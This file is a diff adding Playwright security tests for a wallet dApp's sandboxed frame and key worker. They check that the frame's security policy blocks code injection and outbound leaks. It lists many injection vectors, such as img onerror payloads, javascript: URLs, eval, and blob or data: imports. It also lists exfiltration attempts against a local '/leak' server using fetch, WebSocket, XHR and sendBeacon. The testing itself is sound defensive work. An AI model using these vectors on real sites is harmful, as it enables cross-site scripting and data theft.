@@ -1,0 +1,201 @@
+import { expect, test } from '@playwright/test'
+import { openDapp, request } from './support/dapp.ts'
+import { note, servePage } from './support/hostile.ts'
+import { frameOf } from './support/kit.ts'
+import { urls } from './support/ports.ts'
+
+test('behavior: every way to make code out of text is refused inside the frame (E2, E7)', async ({ page }) => {
+  await openDapp(page)
+  await request(page, 'eth_blockNumber')
+  const outcome = await frameOf(page).evaluate(async (foreign) => {
+    // In a turn of its own: the debugger may evaluate text, the page may not.
+    await new Promise((resolve) => setTimeout(resolve))
+    const blocked: string[] = []
+    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => blocked.push(effectiveDirective))
+    const mark = (name: string) => `globalThis.ran = [...(globalThis.ran ?? []), '${name}']`
+    const body = document.body
+    const make = (tag: string, set: (element: HTMLElement) => void) => () => {
+      const element = document.createElement(tag)
+      set(element)
+      body.append(element)
+      return element
+    }
+    const blob = URL.createObjectURL(new Blob([mark('blob')], { type: 'text/javascript' }))
+    const global = globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
+    const attacks: Record<string, () => unknown> = {
+      innerHTML: make('div', (div) => {
+        div.innerHTML = `<img src=x onerror="${mark('innerHTML')}">`
+      }),
+      outerHTML: () => {
+        const div = body.appendChild(document.createElement('div'))
+        div.outerHTML = `<img src=x onerror="${mark('outerHTML')}">`
+      },
+      'document.write': () => document.write(`<img src=x onerror="${mark('write')}">`),
+      createContextualFragment: () => document.createRange().createContextualFragment('<b>x</b>'),
+      DOMParser: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
+      setHTMLUnsafe: () => body.appendChild(document.createElement('div')).setHTMLUnsafe('<b>x</b>'),
+      srcdoc: make('iframe', (frame) => {
+        ;(frame as HTMLIFrameElement).srcdoc = `<script>${mark('srcdoc')}</script>`
+      }),
+      onerror: make('img', (image) => {
+        image.setAttribute('onerror', mark('onerror'))
+        ;(image as HTMLImageElement).src = 'data:,'
+      }),
+      'script text': make('script', (script) => {
+        script.textContent = mark('script text')
+      }),
+      'script node': () => {
+        const script = document.createElement('script')
+        script.append(document.createTextNode(mark('script node')))
+        body.append(script)
+      },
+      'data: script': make('script', (script) => {
+        ;(script as HTMLScriptElement).src = `data:text/javascript,${mark('data')}`
+      }),
+      'foreign script': make('script', (script) => {
+        ;(script as HTMLScriptElement).src = `${foreign}/plain.js`
+      }),
+      'javascript: link': () => {
+        const link = body.appendChild(document.createElement('a'))
+        link.href = `javascript:${mark('link')}`
+        link.click()
+      },
+      'javascript: location': () => location.assign(`javascript:${mark('location')}`),
+      eval: () => {
+        // biome-ignore lint/security/noGlobalEval: this is the attack
+        eval(mark('eval'))
+      },
+      Function: () => new Function(mark('Function'))(),
+      'setTimeout with text': () => setTimeout(mark('setTimeout') as never),
+      'blob worker': () => new Worker(blob),
+      'data: worker': () => new Worker('data:text/javascript,'),
+      'shared worker': () => new SharedWorker(blob),
+      'blob import': () => import(/* @vite-ignore */ blob),
+      'data: import': () => import(/* @vite-ignore */ `data:text/javascript,${mark('import')}`),
+      'another policy': () => global.trustedTypes.createPolicy('evil', { createHTML: (text: string) => text }),
+      'the default policy': () => global.trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
+      'our policy once more': () =>
+        global.trustedTypes.createPolicy('oriel#worker', { createScriptURL: (url: string) => url }),
+    }
+    const results: Record<string, string> = {}
+    for (const [name, attack] of Object.entries(attacks)) {
+      try {
+        await attack()
+        results[name] = 'done'
+      } catch (error) {
+        results[name] = (error as Error).name
+      }
+    }
+    const style = document.createElement('style')
+    style.textContent = 'body { outline: 7px solid red }'
+    document.head.append(style)
+    const styled = body.appendChild(document.createElement('p'))
+    styled.setAttribute('style', 'outline: 7px solid red')
+    const form = body.appendChild(document.createElement('form'))
+    form.action = `${foreign}/config.json`
+    form.submit()
+    const base = document.head.appendChild(document.createElement('base'))
+    base.href = `${foreign}/`
+    await new Promise((resolve) => setTimeout(resolve))
+    await new Promise((resolve) => setTimeout(resolve))
+    return {
+      results,
+      blocked: [...new Set(blocked)].sort(),
+      ran: (globalThis as { ran?: string[] }).ran ?? [],
+      outlines: [body, styled].map((element) => getComputedStyle(element).outlineWidth),
+      base: document.baseURI,
+    }
+  }, urls.host)
+  note('ways tried', Object.keys(outcome.results).length)
+  expect(outcome.ran).toEqual([])
+  expect(outcome.outlines).not.toContain('7px')
+  expect(outcome.base).toBe(`${urls.frame}/f/default/`)
+  expect(frameOf(page).url()).toBe(`${urls.frame}/f/default/`)
+  expect(outcome.blocked).toEqual(
+    expect.arrayContaining([
+      'base-uri',
+      'require-trusted-types-for',
+      'script-src-elem',
+      'style-src-attr',
+      'style-src-elem',
+      'trusted-types',
+    ]),
+  )
+  expect(await request(page, 'eth_blockNumber')).toMatch(/^0x/)
+})
+
+test('behavior: the frame and the key worker reach no server but what they are for (E3)', async ({ page }) => {
+  await openDapp(page)
+  await request(page, 'eth_blockNumber')
+  const answered: string[] = []
+  page.on('response', (one) => answered.push(one.url()))
+  const elsewhere = await servePage()
+  const foreign = `http://localhost:${elsewhere.port}/leak`
+  const own = `${urls.frame}/leak`
+  const ways = async ({ foreign, own }: { foreign: string; own: string }) => {
+    const results: Record<string, string> = {}
+    const attempt = async (name: string, work: () => unknown) => {
+      results[name] = await Promise.resolve()
+        .then(work)
+        .then(
+          () => 'went',
+          (error: Error) => error.name,
+        )
+    }
+    const socket = (url: string) =>
+      new Promise((resolve, reject) => {
+        const socket = new WebSocket(url.replace('http', 'ws'))
+        socket.onopen = resolve
+        socket.onerror = () => reject(new TypeError('refused'))
+      })
+    const events = (url: string) =>
+      new Promise((resolve, reject) => {
+        const source = new EventSource(url)
+        source.onopen = resolve
+        source.onerror = () => {
+          source.close()
+          reject(new TypeError('refused'))
+        }
+      })
+    const xhr = (url: string) =>
+      new Promise((resolve, reject) => {
+        const one = new XMLHttpRequest()
+        one.onload = resolve
+        one.onerror = () => reject(new TypeError('refused'))
+        one.open('GET', url)
+        one.send()
+      })
+    await attempt('fetch', () => fetch(foreign, { mode: 'no-cors' }))
+    await attempt('fetch keepalive', () =>
+      fetch(foreign, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
+    )
+    await attempt('WebSocket', () => socket(foreign))
+    await attempt('EventSource', () => events(foreign))
+    await attempt('XMLHttpRequest', () => xhr(foreign))
+    await attempt('import', () => import(/* @vite-ignore */ `${foreign}.js`))
+    const { importScripts } = globalThis as { importScripts?: (url: string) => void }
+    if (importScripts) {
+      await attempt('importScripts', () => importScripts(`${foreign}.js`))
+      await attempt('own fetch', () => fetch(own))
+      await attempt('own WebSocket', () => socket(own))
+      await attempt('own XMLHttpRequest', () => xhr(own))
+      await attempt('worker', () => new Worker(`${foreign}.js`))
+    } else {
+      navigator.sendBeacon(foreign, 'x')
+    }
+    return results
+  }
+  const inPage = await frameOf(page).evaluate(ways, { foreign, own })
+  const worker = page.workers().find((one) => one.url().includes('vault.worker')) ?? (await page.waitForEvent('worker'))
+  const inWorker = await worker.evaluate(ways, { foreign, own })
+  expect(Object.values(inPage)).not.toContain('went')
+  expect(Object.values(inWorker)).not.toContain('went')
+  expect(Object.keys(inWorker)).toHaveLength(11)
+  expect(elsewhere.hits()).toBe(0)
+  expect(answered.filter((url) => url.includes('/leak'))).toEqual([])
+  // The server counts, and so does the listener.
+  await page.evaluate((url) => fetch(url, { mode: 'no-cors' }), foreign)
+  expect(elsewhere.hits()).toBe(1)
+  expect(answered).toContain(foreign)
+  await elsewhere.stop()
+})
